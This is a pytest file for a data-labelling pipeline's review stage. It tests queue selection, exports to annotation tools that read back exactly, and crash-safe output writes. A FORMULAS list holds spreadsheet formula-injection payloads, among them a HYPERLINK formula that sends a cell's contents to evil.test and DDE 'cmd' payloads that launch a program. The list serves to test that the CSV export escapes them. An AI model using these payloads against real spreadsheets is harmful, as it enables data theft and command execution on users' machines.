"""review stage: queues (budget, diversity), and exports that the label stage's own readers import back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.audit import AuditParams
from schemas.label import LabelImport
from schemas.paths import AuditPaths, ReviewPaths
from schemas.review import ReviewParams
from stages import audit, review
from stages.lib.label.annotations import read_import
from stages.lib.review import exports
from stages.lib.review.queues import active_queue, issue_queue, uncertainty

from ..dvc_helpers import killed_after_first_rename
from ..refine_helpers import answer_label_studio
from .lib.fuzz import FUZZ
from .test_audit import sms_rows, write_split

FIXTURES = Path(__file__).parents[1] / "fixtures" / "annotation_exports"
TASKS = [
    {"id": "a1", "text": "WIN a prize now", "label": "ham", "suggested_label": "spam", "score": 0.91, "reason": "x"},
    {
        "id": "a2",
        "text": 'he said "ok", then left',
        "label": "spam",
        "suggested_label": "ham",
        "score": 0.8,
        "reason": "y",
    },
    {"id": "a3", "text": "new row\nsecond line", "label": None, "suggested_label": "ham", "score": 0.55, "reason": "z"},
]


def test_issue_queue_takes_kinds_in_priority_and_each_row_once():
    issues = [
        {"id": "o1", "issue": "outlier", "score": 0.01},
        {"id": "l2", "issue": "label_issue", "score": 0.2},
        {"id": "l1", "issue": "label_issue", "score": 0.1},
        {"id": "l1", "issue": "outlier", "score": 0.0},
    ]
    picked = issue_queue(issues, ["label_issue", "outlier"], 3)
    assert [(r["id"], r["issue"]) for r in picked] == [("l1", "label_issue"), ("l2", "label_issue"), ("o1", "outlier")]
    assert len(issue_queue(issues, ["label_issue", "outlier"], 1)) == 1


def test_active_queue_most_uncertain_first_one_per_dup_cluster():
    probs = np.array([[0.5, 0.5], [0.52, 0.48], [0.9, 0.1], [0.6, 0.4]])
    scores = uncertainty(probs, "margin")
    assert scores.argmax() == 0
    picked = active_queue(["a", "b", "c", "d"], ["g1", "g1", "g2", "g3"], scores, 3)
    assert picked == [0, 3, 2]  # b shares a's cluster: skipped
    ent = uncertainty(probs, "entropy")
    assert ent[0] == pytest.approx(np.log(2))
    spread = active_queue(["a", "b", "c", "d"], ["a", "b", "c", "d"], scores, 2, clusters=np.array([0, 0, 1, 1]))
    assert spread == [0, 3]  # one from each k-means cluster before a second from either


def _read(tmp_path: Path, fmt: str, path: str, **kw) -> list:
    imp = LabelImport(name="back", path=path, format=fmt, **kw)
    return list(read_import(imp, tmp_path))


def test_exports_import_back_through_the_label_readers(tmp_path):
    folder = tmp_path / "data/annotations/round1"
    exports.write_queue(folder, TASKS, ["label_studio", "argilla", "doccano", "csv"], "label", "refinery-abc")

    ls = json.loads((folder / "label_studio.json").read_text())
    assert ls[0]["predictions"][0]["model_version"] == "refinery-abc"
    assert ls[0]["predictions"][0]["score"] == 0.91
    # the prediction's result has exactly the keys of a real Label Studio annotation result
    real = json.loads((FIXTURES / "label_studio/csv_test_history.json").read_text())[0]["annotations"][0]["result"][0]
    ours = ls[0]["predictions"][0]["result"][0]
    assert {"from_name", "to_name", "type", "value"} <= set(real) and set(ours) <= set(real)
    answered = answer_label_studio(ls, {"a1": "spam", "a2": "ham", "a3": "spam"})
    (folder / "answers.json").write_text(json.dumps(answered))
    got = _read(tmp_path, "label_studio", "data/annotations/round1/answers.json", join="id", key="row_id")
    assert [(a.key, a.labels, a.annotator) for a in got] == [
        ("a1", ["spam"], "reviewer@example.test"),
        ("a2", ["ham"], "reviewer@example.test"),
        ("a3", ["spam"], "reviewer@example.test"),
    ]

    records = json.loads((folder / "argilla.json").read_text())
    assert records[0]["suggestions"]["label"] == {"value": "spam", "score": 0.91, "agent": "refinery-abc"}
    real_rg = json.loads((FIXTURES / "synthetic/argilla/records.json").read_text())[0]
    assert set(records[0]) <= set(real_rg) and set(records[0]["suggestions"]["label"]) == set(
        real_rg["suggestions"]["label"]
    )
    for r, value in zip(records, ("spam", "ham", "ham")):
        r["responses"] = {"label": [{"value": value, "user_id": "u1"}]}
    (folder / "argilla_answered.json").write_text(json.dumps(records))
    got = _read(tmp_path, "argilla", "data/annotations/round1/argilla_answered.json", join="id")
    assert [(a.key, a.labels) for a in got] == [("a1", ["spam"]), ("a2", ["ham"]), ("a3", ["ham"])]

    lines = [json.loads(x) for x in (folder / "doccano.jsonl").read_text().splitlines()]
    real_dc = json.loads((FIXTURES / "doccano/text_classification_export_example.jsonl").read_text().splitlines()[0])
    assert set(real_dc) <= set(lines[0]) and lines[2]["text"] == "new row\nsecond line"
    got = _read(tmp_path, "doccano", "data/annotations/round1/doccano.jsonl", join="id", key="row_id")
    assert [(a.key, a.labels) for a in got] == [("a1", ["spam"]), ("a2", ["ham"]), ("a3", ["ham"])]

    with open(folder / "tasks.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[1]["text"] == 'he said "ok", then left'
    with open(folder / "answered.csv", "w", newline="") as fh:
        writer = csv.DictWriter(fh, [*rows[0], "label"])
        writer.writeheader()
        writer.writerows({**r, "label": r["suggested_label"]} for r in rows)
    got = _read(tmp_path, "csv", "data/annotations/round1/answered.csv", join="id", key="row_id")
    assert [(a.key, a.labels) for a in got] == [("a1", ["spam"]), ("a2", ["ham"]), ("a3", ["ham"])]


def test_stage_writes_both_queues_with_budgets(tmp_path):
    rows = sms_rows(600)
    for r in rows[500:560]:
        r["split"], r["label"] = "unlabeled", None
    rows[520]["dup_cluster"] = rows[521]["dup_cluster"]
    split = write_split(tmp_path / "split", rows)
    a = AuditPaths(
        issues=str(tmp_path / "audit/issues.parquet"),
        details=str(tmp_path / "audit/d.json"),
        metrics=str(tmp_path / "audit/m.json"),
        plot=str(tmp_path / "audit/p.json"),
        model=str(tmp_path / "audit/model"),
    )
    audit.run(AuditParams(folds=3), a, split)
    cfg = ReviewParams(issues={"budget": 4}, active={"budget": 10, "kmeans_clusters": 3})
    p = ReviewPaths(dir=str(tmp_path / "review"), metrics=str(tmp_path / "review.json"))
    metrics = review.run(cfg, AuditParams(folds=3), p, a.issues, split, a.model)
    assert metrics["queues"] == {
        "issues": min(4, len({r["id"] for r in pq.read_table(a.issues).to_pylist()})),
        "active": 10,
    }
    active = json.loads((tmp_path / "review/active/label_studio.json").read_text())
    ids = [t["data"]["row_id"] for t in active]
    assert len(set(ids)) == 10 and not {rows[520]["id"], rows[521]["id"]} <= set(ids)
    assert {t["predictions"][0]["model_version"] for t in active} == {metrics["model_version"]}
    assert sorted(p.name for p in (tmp_path / "review/issues").iterdir()) == [
        "argilla.json",
        "doccano.jsonl",
        "label_studio.json",
        "tasks.csv",
    ]
    first = {f.name: f.read_bytes() for f in (tmp_path / "review/active").iterdir()}
    review.run(cfg, AuditParams(folds=3), p, a.issues, split, a.model)
    assert first == {f.name: f.read_bytes() for f in (tmp_path / "review/active").iterdir()}


FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1 after a carriage return",
    "'=already quoted",
]


def _formula_tasks() -> list[dict]:
    return [
        {
            "id": f"f{n}",
            "text": text,
            "label": "=bad" if n % 2 else "-1",
            "suggested_label": "@risky" if n % 2 else "+1",
            "score": 0.5,
            "reason": "label_issue",
        }
        for n, text in enumerate(FORMULAS)
    ]


def test_tasks_csv_has_no_cell_a_spreadsheet_runs_and_reads_back_exactly(tmp_path):
    tasks = _formula_tasks()
    folder = tmp_path / "data/annotations/round1"
    exports.write_queue(folder, tasks, ["csv"], "label", "refinery-abc")
    raw = (folder / "tasks.csv").read_bytes().decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in ("-1", "+1")]
    assert "'=HYPERLINK(" in raw and "'=bad" in raw and "'@risky" in raw
    # an annotator copies the suggestion into a `label` column; the label stage reads every cell back exactly
    with open(folder / "tasks.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    with open(folder / "answered.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, [*rows[0], "label"])
        writer.writeheader()
        writer.writerows({**r, "label": r["suggested_label"]} for r in rows)
    path = "data/annotations/round1/answered.csv"
    by_id = _read(tmp_path, "csv", path, join="id", key="row_id")
    assert [(a.key, a.labels, a.problem) for a in by_id] == [(t["id"], [t["suggested_label"]], None) for t in tasks]
    by_text = _read(tmp_path, "csv", path, join="text", key="text", question="current_label")
    assert [(a.key, a.labels) for a in by_text] == [(t["text"], [t["label"]]) for t in tasks]


@FUZZ
@given(st.text(min_size=1, max_size=30).filter(lambda s: s.strip("\x00") != ""))
def test_fuzz_any_text_survives_tasks_csv_and_the_label_reader(tmp_path_factory, text):
    root = tmp_path_factory.mktemp("fuzz")
    task = {"id": "x1", "text": text, "label": text, "suggested_label": "ham", "score": 0.5, "reason": "z"}
    exports.write_queue(root / "data/r", [task], ["csv"], "label", "v")
    got = _read(root, "csv", "data/r/tasks.csv", join="text", key="text", question="current_label")
    assert [(a.key, a.labels) for a in got] == [(text, [text] if text.strip() else [])]


# Runs `python -m stages.review` but dies with SIGKILL right after its first output is renamed into place.
KILLER = killed_after_first_rename("review")
REVIEW_OUTPUTS = ("metrics/review.json", "metrics/details/review.json")


def _review_project(folder: Path, budget: int) -> Path:
    import yaml

    from ..conftest import REPO

    params = yaml.safe_load((REPO / "params.yaml").read_text())
    params["audit"]["folds"] = 3
    params["review"]["issues"]["budget"] = budget
    params["review"]["active"]["budget"] = budget
    folder.mkdir(exist_ok=True)
    (folder / "params.yaml").write_text(yaml.safe_dump(params, sort_keys=False))
    if not (folder / "data/audit/issues.parquet").is_file():
        rows = sms_rows(300)
        for r in rows[200:240]:
            r["split"], r["label"] = "unlabeled", None
        split = write_split(folder / "data/split", rows)
        a = AuditPaths(
            issues=str(folder / "data/audit/issues.parquet"),
            details=str(folder / "a/d.json"),
            metrics=str(folder / "a/m.json"),
            plot=str(folder / "a/p.json"),
            model=str(folder / "models/audit"),
        )
        audit.run(AuditParams(folds=3), a, split)
    return folder


def _review_outputs(folder: Path) -> dict[str, bytes]:
    files = {n: (folder / n).read_bytes() for n in REVIEW_OUTPUTS}
    files |= {str(p.relative_to(folder)): p.read_bytes() for p in sorted((folder / "data/review").rglob("*.*"))}
    return files


def _run_review(folder: Path, *prefix: str):
    import os
    import subprocess
    import sys

    from ..conftest import REPO

    env = {**os.environ, "PYTHONPATH": str(REPO)}
    cmd = [sys.executable, *(prefix or ("-m", "stages.review"))]
    return subprocess.run(cmd, cwd=folder, env=env, capture_output=True, text=True, timeout=300)


@pytest.mark.slow
def test_sigkill_between_the_renames_leaves_all_old_or_all_new(tmp_path):
    """review writes a folder and two metrics files: a kill after the first rename is rolled forward."""
    import signal

    expected = _review_project(tmp_path / "expected", budget=6)
    assert _run_review(expected).returncode == 0
    work = _review_project(tmp_path / "work", budget=3)
    first = _run_review(work)
    assert first.returncode == 0, first.stderr
    old = _review_outputs(work)
    _review_project(work, budget=6)
    killed = _run_review(work, "-c", KILLER)
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    assert _review_outputs(work) != old and list((work / ".refinery").glob("*.json"))  # a mixed pair, a journal
    (work / "params.yaml").write_text("review: [")  # not even YAML: the repair runs first
    failed = _run_review(work)
    assert failed.returncode == 1
    assert _review_outputs(work) == _review_outputs(expected)  # rolled forward: all new, byte for byte
    assert not list((work / ".refinery").glob("*.json"))
